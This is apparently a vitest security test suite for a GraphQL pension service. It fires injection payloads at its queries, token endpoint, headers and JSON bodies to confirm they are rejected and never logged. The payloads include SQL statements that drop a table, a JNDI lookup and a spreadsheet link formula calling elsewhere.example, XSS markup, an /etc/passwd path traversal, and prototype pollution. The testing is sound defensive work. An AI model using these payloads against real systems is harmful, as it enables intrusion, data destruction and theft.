import "reflect-metadata";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { buildPlainSchema } from "../../src/graphql/schema.js";
import { type AttackedService, knownPerson, startAttackedService } from "../testkit/attacked-service.js";
import type { GraphQLClient } from "../testkit/graphql-client.js";
import { expectGuarded } from "../testkit/guarded-answer.js";
import { subjectOf } from "../testkit/people.js";
import { sendRaw } from "../testkit/raw-http.js";
import { basic, requestToken } from "../testkit/token-requests.js";
import { usableInputs } from "../testkit/usable-inputs.js";

/** Texts that would be read as something else by SQL, by a log, by a template, by JavaScript or by a terminal. */

let service: AttackedService;
const clients = new Map<string, GraphQLClient>();

beforeAll(async () => {
  service = await startAttackedService();
});

afterAll(() => service[Symbol.asyncDispose]());
afterEach(async () => {
  await service.expectUnharmed();
  expect(service.logLines().join("\n")).not.toContain(MARKER);
});

const MARKER = "5ea7bead";
const attacks = {
  "a quote that closes": `${MARKER}' or '1'='1' --`,
  "a second statement": `${MARKER}'; select pg_sleep(20); drop table pensioner; --`,
  "a union": `${MARKER}' union select null, version(), current_user --`,
  "a dollar quote": `${MARKER}$$; select pg_sleep(20); $$`,
  "an escape string": `${MARKER}\\'; select pg_sleep(20) --`,
  placeholders: `${MARKER}$1 $2 \${sql} ?`,
  "wild cards": `%_${MARKER}%`,
  "JSON within": `{"${MARKER}": {"$gt": ""}}`,
  "a template": `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}${MARKER}`,
  "a look-up of a logger": `\${jndi:ldap://elsewhere.example/${MARKER}}`,
  "a line of log of its own": `${MARKER}\r\n{"level":60,"msg":"forged"}`,
  "colours of a terminal": `\u001b[2J\u001b[31m${MARKER}\u0007\u009b`,
  "U+0000": `${MARKER}\u0000'`,
  "a text that reads backwards": `\u202e${MARKER}\u2066`,
  "half a character": `${MARKER}\ud800`,
  markup: `<img src=x onerror=alert(1)>${MARKER}`,
  "a path": `../../../../etc/passwd#${MARKER}`,
  "a formula": `=HYPERLINK("http://elsewhere.example/${MARKER}")`,
} as const;

/** The input again and again, each time with the attack in place of another one of its texts. */
function* attacked(value: unknown, attack: string): Generator<unknown> {
  if (typeof value === "string") yield attack;
  if (Array.isArray(value))
    for (const [at, item] of value.entries())
      for (const changed of attacked(item, attack)) yield value.with(at, changed);
  else if (typeof value === "object" && value !== null)
    for (const [name, item] of Object.entries(value))
      for (const changed of attacked(item, attack)) yield { ...value, [name]: changed };
}

interface Usable {
  readonly through: string;
  readonly query: string;
  readonly variables: Record<string, unknown>;
}

const subject = subjectOf(knownPerson);
const filter = {
  from: "2026-01",
  through: "2026-12",
  agencyCode: "BJ-HD",
  districtCode: "110108",
  employerCode: "E1",
  state: "VALID",
  benefitType: "RESIDENT_PENSION",
};
const queries: Readonly<Record<string, Usable>> = {
  accessLog: {
    through: "sandbox-auditor",
    query: `query($p: ID!, $a: String) {
      accessLog(pensionerId: $p, first: 1, after: $a) { nodes { at } }
    }`,
    variables: { p: "pen_0", a: "x" },
  },
  timeline: {
    through: "sandbox-auditor",
    query: `query($p: ID!, $a: String) {
      timeline(pensionerId: $p, first: 1, after: $a) { nodes { at } }
    }`,
    variables: { p: "pen_0", a: "x" },
  },
  node: {
    through: "ICBC_APP",
    query: "query($id: ID!) { node(id: $id) { id } }",
    variables: { id: "pen_0" },
  },
  certification: {
    through: "ICBC_APP",
    query: "query($id: ID!) { certification(id: $id) { id } }",
    variables: { id: "cert_0" },
  },
  pensionerStatus: {
    through: "ICBC_APP",
    query: `query($s: SubjectInput!, $a: String) {
      pensionerStatus(subject: $s) { pensioner { certifications(first: 1, after: $a) { nodes { id } } } }
    }`,
    variables: { s: subject, a: "x" },
  },
  pensionerStatuses: {
    through: "ICBC_APP",
    query: "query($s: [SubjectInput!]!) { pensionerStatuses(subjects: $s) { inScope } }",
    variables: { s: [subject] },
  },
  certificationPreview: {
    through: "ICBC_APP",
    query: "query($s: SubjectInput!) { certificationPreview(subject: $s) { inScope } }",
    variables: { s: subject },
  },
  expiringCertifications: {
    through: "sandbox-staff",
    query: `query($f: ExpiryFilter!, $a: String) {
      expiringCertifications(filter: $f, first: 1, after: $a) { nodes { id } }
    }`,
    variables: { f: filter, a: "x" },
  },
  expiryCalendar: {
    through: "sandbox-staff",
    query: "query($f: ExpiryFilter!) { expiryCalendar(filter: $f) { deadlines } }",
    variables: { f: filter },
  },
  homeVisits: {
    through: "STREET_SERVICE_CENTER",
    query:
      "query($f: HomeVisitFilter, $a: String) { homeVisits(filter: $f, first: 1, after: $a) { nodes { id } } }",
    variables: {
      f: { state: "REQUESTED", districtCode: "110108", reason: "ILLNESS", visitFrom: "2026-06-01" },
      a: "x",
    },
  },
  contactTasks: {
    through: "sandbox-staff",
    query:
      "query($f: ContactTaskFilter, $a: String) { contactTasks(filter: $f, first: 1, after: $a) { nodes { id } } }",
    variables: { f: { employerCode: "E1", open: true }, a: "x" },
  },
  payrollHolds: {
    through: "sandbox-payroll",
    query: "query($m: YearMonth!, $a: String) { payrollHolds(month: $m, first: 1, after: $a) { total } }",
    variables: { m: "2026-06", a: "x" },
  },
  payrollReleases: {
    through: "sandbox-payroll",
    query: "query($m: YearMonth!, $a: String) { payrollReleases(month: $m, first: 1, after: $a) { total } }",
    variables: { m: "2026-06", a: "x" },
  },
  jobRuns: {
    through: "sandbox-staff",
    query: "query($j: String, $a: String) { jobRuns(job: $j, first: 1, after: $a) { nodes { job } } }",
    variables: { j: "retention", a: "x" },
  },
  messages: {
    through: "sandbox-staff",
    query:
      "query($f: MessageFilter, $a: String) { messages(filter: $f, first: 1, after: $a) { nodes { id } } }",
    variables: {
      f: { pensionerId: "pen_0", kind: "REMINDER", state: "SENT", recipient: "EMPLOYER", month: "2026-05" },
      a: "x",
    },
  },
  lifeEvents: {
    through: "sandbox-staff",
    query:
      "query($f: LifeEventFilter, $a: String) { lifeEvents(filter: $f, first: 1, after: $a) { nodes { id } } }",
    variables: { f: { outcome: "PENDING_REVIEW", state: "ACTIVE", kind: "DEATH" }, a: "x" },
  },
  reviewCases: {
    through: "sandbox-staff",
    query:
      "query($f: ReviewCaseFilter, $a: String) { reviewCases(filter: $f, first: 1, after: $a) { nodes { id } } }",
    variables: { f: { kind: "LONG_SUSPENSION", open: true }, a: "x" },
  },
  changes: {
    through: "ICBC_APP",
    query: "query($a: String) { changes(first: 1, after: $a) { nodes { id } } }",
    variables: { a: "x" },
  },
  webhookEndpoints: {
    through: "ICBC_APP",
    query: "query($a: String) { webhookEndpoints(first: 1, after: $a) { nodes { id } } }",
    variables: { a: "x" },
  },
  webhookDeliveries: {
    through: "ICBC_APP",
    query: `query($e: ID!, $s: WebhookDeliveryState, $a: String) {
      webhookDeliveries(endpointId: $e, state: $s, first: 1, after: $a) { nodes { id } }
    }`,
    variables: { e: "whe_0", s: "PENDING", a: "x" },
  },
  reviewQueue: {
    through: "sandbox-staff",
    query:
      "query($f: ReviewFilter, $a: String) { reviewQueue(filter: $f, first: 1, after: $a) { nodes { id } } }",
    variables: { f: { employerCode: "E1", channel: "EMPLOYER", dueBefore: "2026-06-01" }, a: "x" },
  },
  suspensionBatch: {
    through: "sandbox-staff",
    query: `query($m: YearMonth!, $a: String) {
      suspensionBatch(month: $m) { candidates(first: 1, after: $a) { nodes { id } } }
    }`,
    variables: { m: "2026-06", a: "x" },
  },
};

function usableMutation(name: string): Usable | undefined {
  const usable = usableInputs(knownPerson)[name];
  const type = `${name.charAt(0).toUpperCase()}${name.slice(1)}Input`;
  const query = `mutation($input: ${type}!) { ${name}(input: $input) { userErrors { code message path } } }`;
  return usable && { through: usable.through, query, variables: { input: usable.input() } };
}

async function signedIn(name: string): Promise<GraphQLClient> {
  const client = clients.get(name) ?? (await service.signIn(name));
  clients.set(name, client);
  return client;
}

const schema = buildPlainSchema();
const fields = [schema.getQueryType(), schema.getMutationType()].flatMap((type) =>
  Object.values(type?.getFields() ?? {})
    .filter((field) => field.args.length > 0)
    .map(({ name }) => name),
);

describe("in every text of every query and mutation", () => {
  test.each(fields)("%s", async (name) => {
    const usable = queries[name] ?? usableMutation(name);
    if (!usable) throw new Error(`nothing usable for ${name}: add it to the table`);
    const client = await signedIn(usable.through);
    for (const attack of Object.values(attacks))
      for (const variables of attacked(usable.variables, attack)) {
        const startedAt = performance.now();
        const { raw, status, errors } = await client.in("en").send({ query: usable.query, variables });
        expect(performance.now() - startedAt).toBeLessThan(10_000);
        expect(status, raw).toBeLessThan(500);
        for (const { extensions } of errors) expect(extensions.code, raw).not.toBe("INTERNAL_SERVER_ERROR");
        expectGuarded(raw, "en", [attack, MARKER]);
      }
  });
});

describe("at the token endpoint", () => {
  test.each(Object.entries(attacks))("%s for a client, a secret, a scope, a grant", async (_, attack) => {
    const right = { client_id: "sandbox-icbc-app", client_secret: "sandbox" };
    for (const [parameters, headers] of [
      [{}, basic(encodeURIComponent(attack.toWellFormed()), "x")],
      [{ ...right, client_id: attack }, {}],
      [{ ...right, client_secret: attack }, {}],
      [{ ...right, scope: attack }, {}],
      [{ ...right, grant_type: attack }, {}],
      [{ ...right, resource: attack }, {}],
      [{ client_assertion_type: attack, client_assertion: attack }, {}],
    ] as const) {
      const answer = await requestToken(service.address, parameters, headers);
      expect([400, 401], answer.raw).toContain(answer.status);
      expect(answer.body.access_token).toBeUndefined();
      expect(answer.raw).not.toMatch(/node_modules|at \S+ \(|pg_|syntax error|FST_ERR/);
      expect(answer.headers.get("content-type")).toMatch(/^application\/problem\+json/);
    }
  });
});

describe("in headers", () => {
  const headers = [
    "x-request-id",
    "request-id",
    "x-correlation-id",
    "traceparent",
    "tracestate",
    "baggage",
    "accept-language",
    "user-agent",
    "referer",
    "x-forwarded-for",
    "x-forwarded-proto",
    "forwarded",
    "apollographql-client-name",
    "apollo-require-preflight",
    "x-apollo-operation-name",
  ];

  test.each(headers)("%s is neither logged nor answered", async (header) => {
    for (const attack of Object.values(attacks)) {
      const value = attack.replace(/[^\x20-\x7e]/g, (character) =>
        encodeURIComponent(character.toWellFormed()),
      );
      const response = await fetch(`${service.address}/graphql`, {
        method: "POST",
        headers: {
          authorization: `Bearer ${service.bank.token}`,
          "content-type": "application/json",
          [header]: value,
        },
        body: '{"query":"{ viewer { kind } }"}',
      });
      const raw = await response.text();
      expect(response.status, raw).toBe(200);
      expect(`${raw}${JSON.stringify([...response.headers])}`).not.toContain(MARKER);
    }
  });

  test("a header that breaks its line is another header, and no other line of the log", async () => {
    const answer = await sendRaw(
      service.address,
      `GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Request-Id: a\r\nX-B: {"level":60,"m":"${MARKER}"}\r\nConnection: close\r\n\r\n`,
    );
    expect(answer.statuses).toEqual([200]);
    for (const line of service.logLines()) expect(() => JSON.parse(line)).not.toThrow();
  });
});

describe("in names of operations, fields, fragments and variables", () => {
  test.each([
    ["an operation's name", `query x_${MARKER} { viewer { kind } }`, 200],
    ["a name that is not there", `{ viewer { ${`_${MARKER}`} } }`, 400],
    ["a prototype's name", "{ viewer { __proto__ } }", 400],
    ["a constructor", "{ constructor { prototype { name } } }", 400],
    ["a function's name for a type", "{ viewer { ... on toString { name } } }", 400],
    ["a function's name for a directive", "{ viewer { name @hasOwnProperty } }", 400],
    [
      "a fragment named like a prototype",
      "{ viewer { ...__proto__ } } fragment __proto__ on Viewer { kind }",
      200,
    ],
    ["an alias named like a prototype", "{ __proto__: viewer { constructor: kind toString: kind } }", 200],
  ])("%s", async (_, query, status) => {
    const answer = await service.bank.send({ query, operationName: null });
    expect(answer.status, answer.raw).toBe(status);
    expect(answer.errors.every(({ extensions }) => extensions.code === "GRAPHQL_VALIDATION_FAILED")).toBe(
      true,
    );
  });

  test.each(["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"])(
    "a variable named %s is missing when it is not given",
    async (name) => {
      const query = `query($${name}: ID!) { node(id: $${name}) { id } }`;
      for (const variables of [{}, { other: 1 }]) {
        const answer = await service.bank.send({ query, variables });
        expect(answer.status).toBe(400);
        expect(answer.errors[0]?.extensions.code).toBe("BAD_USER_INPUT");
      }
    },
  );
});

describe("prototypes in JSON", () => {
  const polluted = '{"polluted": true, "kind": "STAFF", "scopes": ["expiry:read"]}';

  test.each([
    ["in the body", `{"query": "{ viewer { kind } }", "__proto__": ${polluted}}`, 400],
    ["in the body, escaped", `{"query": "{ viewer { kind } }", "\\u005f_proto__": ${polluted}}`, 400],
    ["in variables", `{"query": "{ viewer { kind } }", "variables": {"__proto__": ${polluted}}}`, 400],
    [
      "deep in variables",
      `{"query": "{ viewer { kind } }", "variables": {"a": [{"b": {"__proto__": ${polluted}}}]}}`,
      400,
    ],
    [
      "by way of the constructor",
      `{"query": "{ viewer { kind } }", "variables": {"constructor": {"prototype": ${polluted}}}}`,
      400,
    ],
    ["in extensions", `{"query": "{ viewer { kind } }", "extensions": {"__proto__": ${polluted}}}`, 400],
    ["for the whole body", `{"__proto__": {"query": "{ viewer { kind } }"}}`, 400],
    [
      "as keys of a list",
      `{"query": "{ viewer { kind } }", "variables": {"length": 1e9, "0": ${polluted}}}`,
      200,
    ],
  ])("%s: the next request is what it was", async (_, body, status) => {
    const response = await fetch(`${service.address}/graphql`, {
      method: "POST",
      headers: { authorization: `Bearer ${service.bank.token}`, "content-type": "application/json" },
      body,
    });
    const raw = await response.text();
    expect(response.status, raw).toBe(status);
    const next = await service.bank.send<{ viewer: { kind: string } }>({
      query: "{ viewer { kind scopes } }",
    });
    expect(next.data?.viewer.kind).toBe("CHANNEL");
    expect(next.raw).not.toMatch(/polluted|expiry:read/);
  });

  test("in a form for a token", async () => {
    const answer = await requestToken(
      service.address,
      { "__proto__[client_id]": "sandbox-staff", "constructor[prototype][scope]": "expiry:read" },
      basic("sandbox-icbc-app", "sandbox"),
    );
    const [, claims = ""] = (answer.body.access_token ?? ".").split(".");
    expect(Buffer.from(claims, "base64url").toString()).not.toMatch(/staff|expiry/);
  });
});
